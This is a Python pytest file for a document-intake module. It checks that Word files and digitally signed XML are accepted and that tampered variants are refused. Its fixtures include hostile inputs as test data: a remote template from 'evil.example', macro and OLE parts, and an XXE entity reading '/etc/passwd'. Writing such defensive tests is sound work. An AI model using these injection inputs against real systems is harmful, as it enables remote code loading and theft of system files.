"""Word documents and signed XML: taken in as they are, refused for what hides in them."""

from __future__ import annotations

import io
from collections.abc import Callable
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from tuphap.kernel.refusal import Refusal
from tuphap.shared.files import writings
from tuphap.shared.files.kinds import WORD, recognise

DSIG = "http://www.w3.org/2000/09/xmldsig#"
SIGNED = (
    f'<?xml version="1.0"?><ToKhai><Ten>Lê Thị Hoa</Ten><Signature xmlns="{DSIG}"><SignedInfo/>'
    "<SignatureValue>AAEC</SignatureValue></Signature></ToKhai>"
).encode()


def word() -> bytes:
    """A letter with a link, as people write it."""
    letter = Document()
    letter.add_paragraph("Đơn đề nghị của bà Nguyễn Thị Ánh")
    letter.part.relate_to("https://example.vn/", f"{RELATIONS}/hyperlink", is_external=True)
    out = io.BytesIO()
    letter.save(out)
    return out.getvalue()


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(change: Callable[[dict[str, bytes]], object]) -> bytes:
    """The letter with other parts in it."""
    with ZipFile(io.BytesIO(word())) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    change(parts)
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def without_types(parts: dict[str, bytes]) -> None:
    del parts["[Content_Types].xml"]


def as_a_workbook(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"wordprocessingml", b"spreadsheetml")


def with_macros_allowed(parts: dict[str, bytes]) -> None:
    before = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = before.replace(
        f"{WORD}.main+xml".encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    assert parts["[Content_Types].xml"] != before


def with_a_template_from_elsewhere(parts: dict[str, bytes]) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" Target="http://evil.example/a.dotm"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


def with_entities(parts: dict[str, bytes]) -> None:
    parts["word/_rels/more.rels"] = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'


@pytest.mark.parametrize("said", [WORD, "application/octet-stream", "", "application/zip"])
def test_a_word_document_is_taken_in(said: str) -> None:
    assert recognise(word(), media_type=said).ending == ".docx"


@pytest.mark.parametrize(("change", "code"), [
    (without_types, "files.type"), (as_a_workbook, "files.type"),
    (with_macros_allowed, "files.unsafe"), (with_a_template_from_elsewhere, "files.unsafe"),
    (with_entities, "files.unsafe"),
    (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "files.unsafe"),
    (lambda parts: parts.update({"word/activeX/activeX1.xml": b"<a/>"}), "files.unsafe"),
    (lambda parts: parts.update({"word/embeddings/oleObject1.bin": b"x"}), "files.unsafe"),
    (lambda parts: parts.update({"word/_rels/bad.rels": b"<a"}), "files.unreadable"),
    (lambda parts: parts.update({f"word/{n}.xml": b"" for n in range(writings.MOST_PARTS)}), "files.unreadable"),
])
def test_what_hides_in_a_word_document(change: Callable[[dict[str, bytes]], object], code: str) -> None:
    with pytest.raises(Refusal) as refused:
        recognise(changed(change), media_type=WORD)
    assert refused.value.code == code


def test_what_unpacks_without_end_and_what_is_damaged_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = word()
    damaged = bytearray(whole)
    damaged[whole.index(b"word/document.xml") + 200] ^= 0xFF
    for content in (whole[:-40], bytes(damaged)):
        with pytest.raises(Refusal) as refused:
            recognise(content, media_type=WORD)
        assert refused.value.code == "files.unreadable"
    monkeypatch.setattr(writings, "LARGEST_UNPACKED", 1000)
    with pytest.raises(Refusal) as refused:
        recognise(whole, media_type=WORD)
    assert refused.value.code == "files.unreadable"


@pytest.mark.parametrize("said", ["application/xml", "text/xml", "application/octet-stream", ""])
def test_signed_xml_is_taken_in(said: str) -> None:
    for content in (SIGNED, b"\xef\xbb\xbf" + SIGNED, SIGNED.partition(b"?>")[2]):
        assert recognise(content, media_type=said).ending == ".xml"


@pytest.mark.parametrize(("content", "code"), [
    (b"<ToKhai/>", "files.unsigned"),
    (SIGNED.replace(b"AAEC", b" "), "files.unsigned"),
    (SIGNED.replace(b"<SignedInfo/>", b""), "files.unsigned"),
    (SIGNED.replace(b"xmldsig#", b"other#"), "files.unsigned"),
    (SIGNED[:-3], "files.unreadable"),
    (b"<!DOCTYPE a>" + SIGNED.partition(b"?>")[2], "files.unsafe"),
    (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "files.unsafe"),
    (b'<?xml-stylesheet href="a.xsl"?>' + SIGNED.partition(b"?>")[2], "files.unsafe"),
])
def test_what_xml_is_refused_for(content: bytes, code: str) -> None:
    with pytest.raises(Refusal) as refused:
        recognise(content, media_type="application/xml")
    assert refused.value.code == code


def test_pages_of_the_web_are_no_signed_xml() -> None:
    with pytest.raises(Refusal) as refused:
        recognise(b"<html><script>1</script></html>", media_type="text/html")
    assert refused.value.code == "files.type"
